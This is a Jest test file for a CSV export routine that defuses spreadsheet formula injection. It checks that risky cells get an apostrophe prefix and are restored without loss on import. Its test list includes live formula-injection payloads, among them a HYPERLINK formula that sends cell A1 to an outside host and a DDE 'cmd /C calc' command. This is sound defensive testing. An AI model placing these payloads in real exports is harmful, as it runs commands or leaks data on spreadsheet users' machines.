import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvLine, defused, restored } from './csv.rules.ts';

const dangerous = [
  '=HYPERLINK("http://x/?"&A1,"查看")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '　=1',
  "，=cmd|'/C calc'!A0",
  ",=cmd|'/C calc'!A0",
  '\u0000=1',
  '\u200B=1',
  '\ttext',
  '\rtext',
  "'=1",
  '+8610',
  '-12.5',
];

describe('IMP-03: a register as CSV', () => {
  it.each(dangerous)('gives %j an apostrophe, quotes it, and takes exactly that apostrophe away again', (text) => {
    const line = csvLine([text]);
    expect(line.startsWith(`"'`)).toBe(true);
    const [[cell]] = parse(line) as [[string]];
    expect(restored(cell)).toBe(text);
  });

  it('leaves numbers in number columns numbers, also negative ones', () => {
    expect(csvLine([-12.5, '普通', null, 7])).toBe('-12.5,"普通",,7\r\n');
  });

  it('keeps identity numbers and leading zeros as text', () => {
    for (const text of ['110105194912310021', '0042', '１１０１０５１９４９１２３１００２１']) {
      expect(defused(text)).toBe(`'${text}`);
      expect(restored(defused(text))).toBe(text);
    }
    expect(defused('2026')).toBe('2026');
  });

  it('leaves ordinary texts as they are: dates, brackets, quotes, an apostrophe', () => {
    for (const text of ['反映民警', '2026-02-14', '（2026）甲01刑初1号', "'引用'", '3-5 人', ''])
      expect(defused(text)).toBe(text);
  });

  it('comes back loss-free through its own import, whatever the text', () => {
    const texts = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom(...dangerous),
      fc.stringMatching(/^['=+\-@0-9,\s]{0,6}$/),
    );
    fc.assert(
      fc.property(fc.array(texts, { minLength: 1, maxLength: 5 }), (row) => {
        const [back] = parse(csvLine(row), {
          relax_column_count: true,
          record_delimiter: '\r\n',
          skip_empty_lines: false,
        });
        expect(back!.map(restored)).toEqual(row);
      }),
    );
  });
});
